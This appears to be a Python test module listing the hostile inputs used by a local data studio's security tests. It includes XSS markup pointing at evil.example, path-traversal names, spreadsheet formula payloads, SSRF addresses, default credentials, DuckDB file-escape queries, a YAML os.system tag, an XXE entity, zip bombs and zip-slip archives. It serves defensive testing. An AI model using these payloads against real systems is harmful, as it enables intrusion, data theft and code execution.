"""Every hostile input that the tests of this folder try, as plain lists, so that they can be counted.

`python -m tests.security.inputs` prints how many there are of each kind: what README's table says comes from here. An input is one
text, name, address, request or file; the same one in another field or on another route is counted where the list of fields or routes
is a list of this file, and nowhere else.
"""

from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Iterable

# What a browser or Streamlit's Markdown might run, fetch or draw. `ran` is a function that tells the test; no request for the host below
# may ever be made. Short, since many fields hold eighty letters.
MARKUP = (
    "<script>ran(1)</script>",
    "<img src=x onerror=ran(1)>",
    "<svg onload=ran(1)>",
    "[a](javascript:ran(1))",
    "![a](//evil.example/a.png)",
    "[a](https://evil.example)",
    "https://evil.example/b",
    "www.evil.example",
    "<https://evil.example/c>",
    "&lt;img src=x onerror=ran(1)&gt;",
    "&#60;svg onload=ran(1)&#62;",
    "$\\href{javascript:ran(1)}{a}$",
    "$$\\frac{1}{2}$$",
    ":material/bug_report:",
    ":red[evil]",
    ":blue-background[evil]",
    ":small[evil] :orange-badge[evil]",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<style>*{background:url(//evil.example/d)}</style>",
    "<details open ontoggle=ran(1)>",
    "'\"><script>ran(1)</script>",
    "</textarea><svg onload=ran(1)>",
    "</script><script>ran(1)</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<a href='java\tscript:ran(1)'>a</a>",
    "<form action=//evil.example><button>a",
    "<math><mtext><style><img src=x onerror=ran(1)>",
)

# Each field of which pages tell, and how many letters it takes; MARKUP goes in from another place for each, as far as there is room.
FIELDS = {
    "title": 300, "body": 9_999, "file": 120, "refused": 120, "column": 300, "cell": 9_999, "badrow": 300, "source": 200, "owner": 200,
    "purpose": 400, "licence": 120, "controller": 200, "reference": 200, "document": 120, "meaning": 300, "author": 80, "asker": 80,
    "question": 9_999, "comment": 9_999, "language": 60, "prompt": 900, "audience": 200, "form": 200, "fact": 300, "mustnot": 300,
    "human": 9_999, "edit": 9_999, "reason": 60, "criterion": 60, "criterionmeaning": 200, "guide": 400, "rule": 80, "factfile": 120,
    "factowner": 200, "facttext": 900, "reviewer": 80, "runnote": 400, "runtag": 60, "retire": 400, "model": 120, "decision": 400, "limit": 400,
    "evidence": 400, "scorereason": 300, "swapped": 300, "draft": 900, "template": 900, "ending": 60, "token": 300, "rundraft": 900, "nearest": 190, "byheart": 900,
    "rulename": 80, "factrefused": 120, "cardrecipe": 80, "cardrule": 80, "cardwords": 300, "cardstep": 80, "cardsource": 200, "cardowner": 200, "leakfile": 120,
    "withdrawnsource": 200, "withdrawn": 400, "override": 400, "exempt": 400, "erased": 200,
}  # fmt: skip

# Words in the address of a page, by the page that reads them.
ASKED_FOR = (
    ("explore", "words"), ("explore", "like"), ("explore", "flag"), ("explore", "tag"), ("explore", "order"), ("explore", "signal"),
    ("curate", "status"), ("curate", "flag"), ("curate", "fact"), ("curate", "record"), ("tags", "view"), ("tags", "record"),
    ("datasets", "fact_kind"), ("train", "train_preset"), ("personal-data", "kind"), ("audit", "by"), ("audit", "on"), ("audit", "of"), ("", "project"),
    ("explore", "source"), ("explore", "about"), ("explore", "holds"), ("explore", "missing"), ("explore", "area"), ("datasets", "compare_older"), ("train", "version"),
    ("runs", "run"), ("results", "run"), ("results", "system"), ("tags", "suggested"), ("tags", "alike"),
)  # fmt: skip

# What is put where a route expects the name or id of something: each must come to no file and no other folder.
NAMES = (
    "../token", "../../etc/passwd", "..%2f..%2ftoken", "%2e%2e%2ftoken", "%252e%252e%252ftoken", "..%5c..%5ctoken", "..;/token", "....//token",
    "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd", "C:%5cWindows%5cwin.ini", "file:%2f%2f%2fetc%2fpasswd", "%00", "a%00.parquet", "a" * 300,
    "..", ".", "~", "%c0%ae%c0%ae%2ftoken", "{sibling}", "%2a", "a%0d%0aSet-Cookie:%20a=b", "'%20OR%20'1'='1", "%ff%fe", "-1", "99999999999999999999", "%F0%9F%92%A3",
)  # fmt: skip

# Beginnings of a cell that a spreadsheet may run.
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "＝1", "＋1", "－1", "＠A", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","a")', "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
)  # fmt: skip

# Hosts that are not the studio's, and pages of other sites that ask it.
HOSTS = (
    "evil.example", "127.0.0.1.evil.example:8501", "localhost.evil.example", "evil.example:8501", "127.0.0.1@evil.example", "evil.example#127.0.0.1",
    "[::1].evil.example", "0.0.0.0:8501", "127.1:8501", "2130706433:8501", "127.0.0.2:8501", "localhost.:8501", "169.254.169.254", "",
)  # fmt: skip
ORIGINS = (
    "https://evil.example", "http://evil.example:8501", "null", "http://127.0.0.1:8501.evil.example", "http://127.0.0.1:9999", "http://localhost:8501",
    "http://127.0.0.1", "https://127.0.0.1:8501@evil.example", "file://", "chrome-extension://abc", "http://127.0.0.1:8501.", "//127.0.0.1:8500",
)  # fmt: skip
# What a browser says, without `Origin`, of a request that another origin's page makes: site, mode and destination.
FETCHED_FROM_ELSEWHERE = (
    ("cross-site", "no-cors", "image"), ("cross-site", "no-cors", "script"), ("cross-site", "no-cors", "style"), ("cross-site", "no-cors", "empty"),
    ("cross-site", "cors", "font"), ("cross-site", "no-cors", "video"), ("cross-site", "navigate", "iframe"), ("cross-site", "navigate", "frame"),
    ("cross-site", "navigate", "embed"), ("cross-site", "navigate", "object"), ("cross-site", "websocket", "empty"), ("cross-site", "no-cors", "document"),
    ("cross-site", "navigate", ""), ("cross-site", "", ""), ("same-site", "no-cors", "image"), ("same-site", "no-cors", "script"), ("same-site", "navigate", "iframe"),
    ("same-site", "cors", "empty"), ("cross-origin", "no-cors", "image"), ("", "no-cors", "image"),
)  # fmt: skip

# Names of people, and passwords, with which comparable tools are opened as they come.
DEFAULTS = tuple(
    (name, password)
    for name in ("admin", "root", "owner", "proofroom", "user", "test", "local")
    for password in ("", "admin", "password", "changeme", "proofroom", "12345678")
)
TOKENS = (
    "", "Bearer", "Bearer ", "Bearer null", "Bearer undefined", "Bearer token", "Bearer changeme", "Bearer proofroom", "Basic YWRtaW46YWRtaW4=", "Bearer *",
    "Bearer %00", "Bearer " + "A" * 43, "Bearer token-0123456789ab-" + "A" * 43, "Bearer session-0123456789ab-" + "A" * 43, "bearer {token}", "Token {token}",
    "Bearer {token}x", "Bearer {half}", "Bearer  {token}",
)  # fmt: skip

# Questions by which the engine could leave the data folder. {outside}: a file beside it, {inside}: a path in it.
WAYS_OUT = (
    "SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_text('/etc/passwd')", "SELECT * FROM read_blob('/etc/passwd')",
    "SELECT * FROM '/etc/passwd'", "SELECT * FROM read_csv('{outside}')", "SELECT * FROM read_json('{outside}')", "SELECT * FROM read_parquet('{outside}')",
    "SELECT * FROM read_csv('{inside}/../outside.csv')", "SELECT * FROM read_csv('{sibling}/outside.csv')", "SELECT * FROM glob('/etc/*')",
    "SELECT * FROM glob('{inside}/../*')", "SELECT * FROM sniff_csv('/etc/passwd')", "SELECT * FROM read_csv('http://127.0.0.1:9/a.csv')",
    "SELECT * FROM read_parquet('s3://evil/a.parquet')", "COPY (SELECT 1) TO '{outside}.new'", "COPY events TO '/tmp/{name}.csv'",
    "COPY (SELECT 1) TO '{inside}/../escaped.csv'", "EXPORT DATABASE '{outside}.dir'", "IMPORT DATABASE '{outside}'", "ATTACH '{outside}.duckdb' AS other",
    "ATTACH ':memory:' AS m; COPY m TO '{outside}.new'", "ATTACH 'http://127.0.0.1:9/a.duckdb'", "INSTALL httpfs", "LOAD httpfs", "INSTALL sqlite", "LOAD '{outside}'",
    "FORCE INSTALL httpfs FROM 'http://127.0.0.1:9'", "SET enable_external_access = true", "SET lock_configuration = false", "SET allowed_directories = ['/']",
    "SET allowed_paths = ['/etc/passwd']", "RESET enable_external_access", "PRAGMA enable_external_access=true", "SET temp_directory = '/tmp/{name}'",
    "SET home_directory = '/'", "SET extension_directory = '/tmp'", "SET custom_extension_repository = 'http://127.0.0.1:9'", "SET autoinstall_known_extensions = true",
    "SET allow_unsigned_extensions = true", "SET secret_directory = '/tmp'", "SET log_query_path = '/tmp/{name}.log'", "SET memory_limit = '1TB'",
    "CREATE PERSISTENT SECRET s (TYPE s3)", "SET file_search_path = '/etc'", "SELECT getenv('HOME')", "SET profiling_output = '/tmp/{name}.json'",
)  # fmt: skip

# Addresses of this machine or its network, in every spelling that a resolver takes; none may be connected to unless allowed by name.
ADDRESSES = (
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0177.0.0.1", "0x7f.0.0.1", "0x7f000001", "0", "0.0.0.0", "127.255.255.254", "10.0.0.8", "172.16.0.1",
    "172.31.255.255", "192.168.1.1", "169.254.169.254", "100.64.0.1", "198.18.0.1", "192.0.0.8", "192.0.2.1", "198.51.100.1", "203.0.113.1", "240.0.0.1",
    "255.255.255.255", "224.0.0.1", "::1", "::", "::ffff:127.0.0.1", "::ffff:7f00:1", "::ffff:10.0.0.8", "::ffff:169.254.169.254", "fe80::1", "fc00::1",
    "fd12:3456::1", "ff02::1", "64:ff9b::7f00:1", "64:ff9b::a00:8", "64:ff9b:1::a00:8", "2002:7f00:1::", "2002:a00:8::1", "2001:0:7f00:1::", "2001:db8::1", "100::1",
)  # fmt: skip
# Urls that are none for an endpoint.
URLS = (
    "models.example/v1", "ftp://models.example/v1", "file:///etc/passwd", "https://", "https://name:word@models.example/v1", "https://models.example/v1?key=1",
    "https://models.example/v1#a", "http://models.example/v1", "https://models.example:99999/v1", "https://models.example:0/v1", "gopher://models.example",
    "javascript:ran(1)", "https://модель.example/v1", "https:///v1", "//models.example/v1", "", " ", "https://[::1", "unix:/var/run/docker.sock",
)  # fmt: skip


def archives() -> dict[str, bytes]:
    """ZIP files that none should be opened as; small, whatever they unpack to."""
    made = {
        "zeros.zip": _zip({"zeros.txt": b"\0" * 100 * 2**20}),
        "many-zeros.zip": _zip({f"{n}.txt": b"\0" * 20 * 2**20 for n in range(5)}),
        "nested.zip": _zip({"inner.zip": _zip({"a.md": b"hidden"})}),
        "link.zip": _zip({"link.md": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777),
        "deep.zip": _zip({"/".join(["a"] * 40) + ".md": b"deep"}),
        "lie.zip": _lying(),
        "no-archive.zip": b"PK\x03\x04 and then nothing",
        "empty.zip": b"",
        "cut.zip": _zip({"a.md": b"a text " * 90})[:-30],
        "encrypted.zip": _encrypted(),
    }
    for n, name in enumerate(MEMBERS):
        made[f"outside-{n}.zip"] = _zip({name: b"out"})
    return made


MEMBERS = (
    "../out.md", "/etc/out.md", "a/../../out.md", "C:/out.md", "C:\\out.md", "..\\out.md", "\\\\host\\out.md", "a/..\\..\\out.md", "/../out.md",
)  # fmt: skip


def bad_files() -> dict[str, bytes]:
    """Files that are read row by row or refused with a reason: the name says what is wrong, the ending what it is sent as."""
    row = {"question": "How?", "answer": "So."}
    line = json.dumps(row)
    deep = "[" * 100_000 + "]" * 100_000
    return {
        "latin1.csv": "question,answer\nWie geht’s?,Schön".encode("cp1252"),
        "not-utf8.jsonl": b'{"question": "\xff\xfe", "answer": "x"}\n' + line.encode(),
        "mostly-utf8.jsonl": '{"question": "Wie geht’s? Schön – größer", "answer": "So."}\n{"question": "H\udcffow?", "answer": "So."}\n'.encode("utf-8", "surrogateescape") + line.encode(),
        "utf16.csv": "question,answer\nHow?,So.\n".encode("utf-16"),
        "utf16-no-bom.csv": "question,answer\nHow?,So.\n".encode("utf-16-le"),
        "bom.csv": "\ufeffquestion,answer\nHow?,So.\n".encode(),
        "bom-in-the-middle.jsonl": f"{line}\n\ufeff{line}\n".encode(),
        "nul.csv": b"question,answer\nHow\x00?,So.\n",
        "nul.jsonl": b'{"question": "How\\u0000?", "answer": "So."}\n',
        "nul-alone.txt": b"\0" * 50,
        "half-character.jsonl": b'{"question": "How \\ud800 many?", "answer": "So."}\n' + line.encode(),
        "half-character-key.jsonl": b'{"question": "How?", "answer": "So.", "\\udfff": 1}\n',
        "long-line.jsonl": json.dumps(row | {"question": "a" * 10 * 2**20}).encode(),
        "long-line.csv": b"question,answer\n" + b"a" * 10 * 2**20 + b",So.\n",
        "long-line.txt": b"word " * 2 * 2**20,
        "many-columns.csv": (",".join(f"c{n}" for n in range(10_000)) + "\n" + ",".join("x" for _ in range(10_000))).encode(),
        "many-keys.jsonl": json.dumps({f"k{n}": n for n in range(10_000)} | row).encode(),
        "same-column-twice.csv": b"question,answer,answer\nHow?,So.,Not so.\n",
        "same-key-twice.jsonl": b'{"question": "How?", "answer": "So.", "answer": "Not so."}\n',
        "empty-column.csv": b"question,,answer\nHow?,x,So.\n",
        "no-column.csv": b"\n\n\n",
        "ragged.csv": b"question,answer\nHow?\nHow?,So.,more,and more\nHow?,So.\n",
        "mixed-ends.csv": b"question,answer\r\nHow?,So.\nWhy?,Thus.\rWhen?,Now.\r\n",
        "mixed-ends.jsonl": f"{line}\r\n{line}\n\n\r{line}".encode(),
        "open-quote.csv": b'question,answer\n"How?,So.\nWhy?,Thus.\n',
        "quote-within.csv": b'question,answer\nHo"w"?,So.\n',
        "deep.json": deep.encode(),
        "deep.jsonl": f'{{"question": {deep}, "answer": "So."}}\n{line}\n'.encode(),
        "deep-object.json": ('{"a":' * 50_000 + "1" + "}" * 50_000).encode(),
        "cut.jsonl": f'{line}\n{{"question": "How'.encode(),
        "cut.json": b'[{"question": "How?", "answer": "So."}, {"question": ',
        "nan.jsonl": b'{"question": NaN, "answer": Infinity}\n',
        "large-number.jsonl": b'{"question": "How?", "answer": "So.", "n": ' + b"9" * 4_000 + b"}\n",
        "huge-number.jsonl": b'{"question": "How?", "answer": "So.", "n": ' + b"9" * 5_000 + b"}\n",
        "not-an-object.jsonl": f'7\n"text"\nnull\n[]\n{line}\n'.encode(),
        "wrong-types.jsonl": b'{"question": {"a": [1]}, "answer": [1, {"b": null}]}\n',
        "object-first.jsonl": f'{{"question": {{"a": [1]}}, "answer": "So."}}\n{line}\n{line}\n'.encode(),
        "list-first.jsonl": f'{{"question": "How?", "answer": ["So."]}}\n{line}\n{line}\n'.encode(),
        "text-for-a-list.jsonl": b'{"messages": "oops"}\n' + 2 * b'{"messages": [{"role": "user", "content": "How?"}, {"role": "assistant", "content": "So."}]}\n',
        "empty.csv": b"", "empty.jsonl": b"", "empty.json": b"", "empty.md": b"", "blanks.md": b" \n\t\n \xc2\xa0\n",
        "yaml-bomb.md": b"---\na: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\ntitle: *c\n---\nText.\n",
        "yaml-tag.md": b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/owned']\n---\nText.\n",
        "yaml-open.md": b"---\ntitle: [\nText without an end.\n",
        "binary.md": bytes(range(256)) * 20,
        "mojibake.md": "Itâ€™s fine, and cafÃ© too.".encode(),
        "right-to-left.md": "A \u202egnp.exe\u202c name, and \u2066more\u2069.".encode(),
        "combining.md": ("a" + "\u0301" * 5_000).encode(),
        "not-a-pdf.pdf": b"%PDF-1.7\n" + b"\xff\x00" * 900,
        "not-a-workbook.xlsx": b"PK\x03\x04nothing",
        "not-parquet.parquet": b"PAR1" + b"\xff" * 64 + b"PAR1",
        "not-gzip.jsonl.gz": b"\x1f\x8b\x08\x00" + b"\xff" * 99,
        "entities.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "deep.html": b"<div>" * 20_000,
        "no-ending": b"Text.", "wrong-ending.exe": b"MZ\x90\x00", "pickle.pkl": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00K\x01.",
    }  # fmt: skip


def counts() -> dict[str, int]:
    """How many inputs are tried, by the line of the checklist that they are for. Lists that no test of this folder takes yet are not counted."""
    return {
        "1 archives": len(archives()),
        "3 markup in fields": sum(len(dose_parts(field)) for field in FIELDS),
        "3 markup in addresses": len(ASKED_FOR) * len(MARKUP),
        "4 names": len(NAMES),
        "5 formulas": len(FORMULAS),
        "6 files": len(bad_files()),
        "8 names with passwords": len(DEFAULTS),
        "8 tokens": len(TOKENS),
        "11 hosts": len(HOSTS),
        "11 origins": len(ORIGINS),
        "11 fetches": len(FETCHED_FROM_ELSEWHERE),
        "13 questions": len(WAYS_OUT),
        "14 addresses": len(ADDRESSES),
        "14 urls": len(URLS),
    }


def dose_parts(field: str) -> list[str]:
    """What of MARKUP goes into a field, from another place for each field, as far as there is room."""
    start, left = list(FIELDS).index(field) * 5 % len(MARKUP), FIELDS[field] - len(mark(field))
    parts = []
    for payload in (*MARKUP[start:], *MARKUP[:start]):
        if len(payload) + 1 <= left:
            parts.append(payload)
            left -= len(payload) + 1
    return parts


def dose(field: str) -> str:
    """The field's mark, by which it is seen that it was shown, and then MARKUP."""
    return " ".join([mark(field), *dose_parts(field)])


def mark(field: str) -> str:
    return f"zq{field}zq"


def _zip(members: dict[str, bytes], *, mode: int = 0) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if mode:
                info.external_attr = mode << 16
            archive.writestr(info, content)
    return target.getvalue()


def _lying() -> bytes:
    """An archive whose directory says that a member is ten bytes long; what comes out is a megabyte."""
    content = bytearray(_zip({"a.txt": b"\0" * 2**20}))
    at = content.index(b"PK\x01\x02") + 24
    content[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(content)


def _encrypted() -> bytes:
    content = bytearray(_zip({"a.md": b"a text"}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.index(signature) + offset
        content[at] |= 1
    return bytes(content)


def _print(rows: Iterable[tuple[str, int]]) -> None:
    total = 0
    for name, n in rows:
        print(f"{n:6,}  line {name}")
        total += n
    print(f"{total:6,}  in all")


if __name__ == "__main__":
    _print(counts().items())
